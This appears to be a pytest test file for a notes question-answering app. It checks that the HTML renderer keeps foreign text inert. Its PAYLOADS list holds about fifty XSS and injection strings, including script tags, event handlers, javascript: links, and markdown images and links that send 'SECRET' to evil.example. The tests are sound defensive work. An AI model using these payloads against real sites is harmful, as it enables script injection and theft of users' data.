"""What the page shows as HTML: nothing that a note, a question or a model says becomes more than text."""

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser
from types import ModuleType

import pytest

from notebot.events import Stage
from notebot.types import Answer, Chunk, Citation, NoteLine, Page, Passage, Sentence, Status, Usage
from notebot.web.page import markup
from notebot.web.page.exchange import Exchange, Trouble

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/?q=SECRET>",
    "<img/src='x'/onerror=alert(1)//",
    "![leak](https://evil.example/?q=SECRET)",
    "![leak][1]\n\n[1]: https://evil.example/?q=SECRET",
    "[click](javascript:alert(1))",
    "[click](https://evil.example/?q=SECRET)",
    "<https://evil.example/?q=SECRET>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><image href=https://evil.example/x.png></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<video poster=https://evil.example/x.png>",
    "<audio src=x onerror=alert(1)>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<div style=\"background:url(https://evil.example/)\">x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</mark></span></li></ol><script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>**",
    "`<img src=x onerror=alert(1)>`",
    "**a`b**c`<b onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "\x00<scr\x00ipt>alert(1)</script>",
    "\u202e<tpircs/>)1(trela<tpircs>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip
ALLOWED = set("article h1 h2 h3 div p aside span bdi a strong code q blockquote ol ul li mark details summary button".split())
ATTRIBUTES = set("class id dir href aria-label aria-labelledby aria-pressed role tabindex target rel type".split())
ATTRIBUTES |= set("data-act data-text data-entry data-conversation data-number data-source data-chunk data-marks".split())


class Seen(HTMLParser):
    """The elements, attributes and text that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.odd: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value or "" for name, value in attrs if name == "href"]
        if tag not in ALLOWED or not {name for name, _ in attrs} <= ATTRIBUTES:
            self.odd.append(self.get_starttag_text() or tag)

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def exchange_of(words: str) -> Exchange:
    """An exchange with `words` everywhere that foreign text can stand."""
    chunk = Chunk("c", words, words, (words, words), f"# {words}\n{words} {words}\nmore\nmore\nmore\n{words}", 1, 6, True, ())
    start = chunk.text.index("\n") + 1
    place = Citation("c", words, (words,), 2, 2, words, start, start + len(words), "line", words, (NoteLine(words, 1),))
    page = Page(words, words, stale=True, linked_from=(NoteLine(words, 1),), meant=False)
    sentences = (Sentence(words, True, 1.0, (place,)), Sentence(words, False, 0.0, (), words))
    answer = Answer(
        words,
        Status.PARTIAL,
        words,
        words,
        sentences,
        (Passage(chunk, 1, 1), Passage(replace(chunk, id="d", page=page), 1, 1)),
        {},
        words,
    )
    trouble = Trouble(words, words)
    told = Exchange(1, words, words, words, Stage("writing", words), answer.passages, sentences, words, answer=answer)
    return replace(told, trouble=trouble, beyond=words, follow_ups=(words,))


def shapes(words: str) -> list[str]:
    whole = exchange_of(words)
    assert whole.answer is not None
    live = replace(whole, answer=None, trouble=None)
    silent = replace(whole, sentences=(), answer=replace(whole.answer, status=Status.NOT_IN_NOTES, sentences=()))
    quoted = replace(whole, answer=replace(whole.answer, status=Status.QUOTED))
    trouble = Trouble(words, words)
    reading = replace(live, sentences=())
    pages = [markup.exchange_html(exchange) for exchange in (whole, live, reading, silent, quoted)]
    return [*pages, markup.welcome(trouble), markup.welcome(None, [words]), markup.footer([words])]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_stays_text(payload: str) -> None:
    for html in shapes(payload):
        seen = Seen(html)
        assert seen.odd == []
        assert "img" not in seen.tags
        assert all(re.fullmatch(r"#source-\d+-\d+", link) for link in seen.links)


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if not re.search(r"[*`\x00\u202e]", p)])
def test_payload_is_still_readable(payload: str) -> None:
    assert payload in Seen(markup.exchange_html(exchange_of(payload))).text


def test_shapes_show_the_words_in_every_place() -> None:
    for html in shapes("zebra"):
        assert "zebra" in Seen(html).text
    assert Seen(shapes("zebra")[0]).text.count("zebra") > 15


def finished(scripted: ModuleType, status: Status, sentences: tuple[Sentence, ...], text: str = "") -> str:
    answer = scripted.answer(status, sentences, text=text, notice="One line of notice.")
    return markup.exchange_html(Exchange(2, "What?", passages=answer.passages, sentences=sentences, answer=answer))


def test_chips_lead_to_sources_with_the_exact_words_marked(scripted: ModuleType) -> None:
    html = finished(scripted, Status.ANSWERED, (scripted.FIRST, scripted.THIRD))
    targets = set(re.findall(r'href="#([^"]+)"', html))
    assert targets == {"source-2-1", "source-2-2"} == set(re.findall(r'<li class="source" id="([^"]+)"', html))
    assert re.findall(r"<mark>(.*?)</mark>", html)[:2] == [
        "Semi-automatic or automatic analysis of massive quantities of data",
        "anomaly detection",
    ]
    assert 'notes.md<span class="lines">lines 15, 17</span>' in html
    assert "Data analysis › Difference b/w data analysis and data mining" in html


def test_unsupported_sentence_is_marked_before_its_words(scripted: ModuleType) -> None:
    html = finished(scripted, Status.PARTIAL, (scripted.FIRST, scripted.SECOND))
    marked = re.search(r'<p class="unsupported">(.*?)</p>', html)
    assert marked is not None
    assert marked[1].startswith("<strong>Not in your notes</strong> <q>")
    assert scripted.SECOND.text in marked[1]
    assert Seen(html).text.count(scripted.SECOND.text) == 1
    assert 'class="chip"' not in marked[1]


@pytest.mark.parametrize(
    ("status", "text", "label", "said"),
    [
        (Status.NOT_IN_NOTES, "", "Not in your notes", "Your notes say nothing about this."),
        (Status.NOT_IN_NOTES, "Nothing on whales.", "Not in your notes", "Nothing on whales."),
        (Status.STUB, "", "A heading without notes", "Your notes have a heading for this, with nothing under it yet."),
    ],
)
def test_silence_is_said_and_shows_the_nearest_places(
    scripted: ModuleType, status: Status, text: str, label: str, said: str
) -> None:
    html = finished(scripted, status, (), text)
    assert f">{label}</p>" in html
    assert said in html
    assert "Nearest places" in html
    assert 'GraphRAG</button> <span class="empty">nothing under it yet' in html
    assert "<mark>" not in html


def test_quoted_answer_is_shown_as_quotes(scripted: ModuleType) -> None:
    html = finished(scripted, Status.QUOTED, (scripted.FIRST, scripted.THIRD))
    assert "In the words of your notes" in html
    assert html.count("<blockquote>") == 2
    assert "One line of notice." in html


def test_quotes_of_pages_are_not_said_to_be_the_words_of_the_notes(scripted: ModuleType) -> None:
    page = replace(scripted.FIRST, citations=(replace(scripted.FIRST.citations[0], url="https://a.example/"),))
    assert ">In the words of pages you link to</p>" in finished(scripted, Status.QUOTED, (page,))
    assert ">In the words of your notes and pages</p>" in finished(scripted, Status.QUOTED, (page, scripted.THIRD))


def test_who_answered_and_how_long_it_took(scripted: ModuleType) -> None:
    html = finished(scripted, Status.ANSWERED, (scripted.FIRST,))
    assert '<p class="byline"><span>Answered by scripted (test)</span><span>1.2 s</span><span>context' in html


@pytest.mark.parametrize(
    ("usage", "said"),
    [
        (Usage(1180, 240, 1420, 4096), ["context 1,420 of 4,096 tokens", "runs locally: yes"]),
        (
            Usage(9, 9, 18, 2048, True, "<b>gpu</b>"),
            ["context about 18 of 2,048 tokens", "runs locally: no, &lt;b&gt;gpu&lt;/b&gt; read"],
        ),
        (None, []),
    ],
)
def test_how_full_the_window_was_and_who_read_it(scripted: ModuleType, usage: Usage | None, said: list[str]) -> None:
    answer = replace(scripted.answer(Status.ANSWERED, (scripted.FIRST,)), usage=usage)
    html = markup.exchange_html(Exchange(1, "?", sentences=answer.sentences, answer=answer))
    assert all(f"<span>{part}" in html for part in said)
    assert ("context" in html) == ("runs locally" in html) == bool(said)


def test_live_exchange_shows_stage_passages_and_unsettled_draft(scripted: ModuleType) -> None:
    live = Exchange(1, "What?", stage=Stage("writing", ""), passages=scripted.PASSAGES, draft="Data min")
    html = markup.exchange_html(live)
    assert 'class="exchange live"' in html
    assert '<p class="stage"><span>writing…</span></p>' in html
    assert '<p class="draft" dir="auto">Data min</p>' in html
    assert "Reading" in html
    assert 'class="chip"' not in html


def test_settled_exchange_has_nothing_left_to_announce(scripted: ModuleType) -> None:
    assert '<p class="stage"></p>' in finished(scripted, Status.ANSWERED, (scripted.FIRST,))


def test_stopped_exchange_says_so(scripted: ModuleType) -> None:
    html = markup.exchange_html(Exchange(1, "What?", sentences=(scripted.FIRST,), draft="half a").stop())
    assert "This answer was stopped" in html
    assert "half a" not in html


def test_a_question_that_another_window_waits_for_says_so() -> None:
    html = markup.exchange_html(Exchange(1, "What?", elsewhere=True))
    assert "answered in another window" in html
    assert 'class="exchange settled"' in html


def test_what_the_model_added_is_marked_and_stands_after_the_answer() -> None:
    answer = Answer("q", Status.ANSWERED, "So.", "fake", (Sentence("So.", True, 1.0),), (), {}, beyond="It is [1] old.")
    html = markup.exchange_html(Exchange(1, "q", sentences=answer.sentences, answer=answer, beyond=answer.beyond))
    above, label, below = html.partition("<strong>Not from your notes</strong>")
    assert label
    assert "It is" not in above
    assert "It is [1] old." in below
    assert "<a " not in below.partition("</div>")[0]
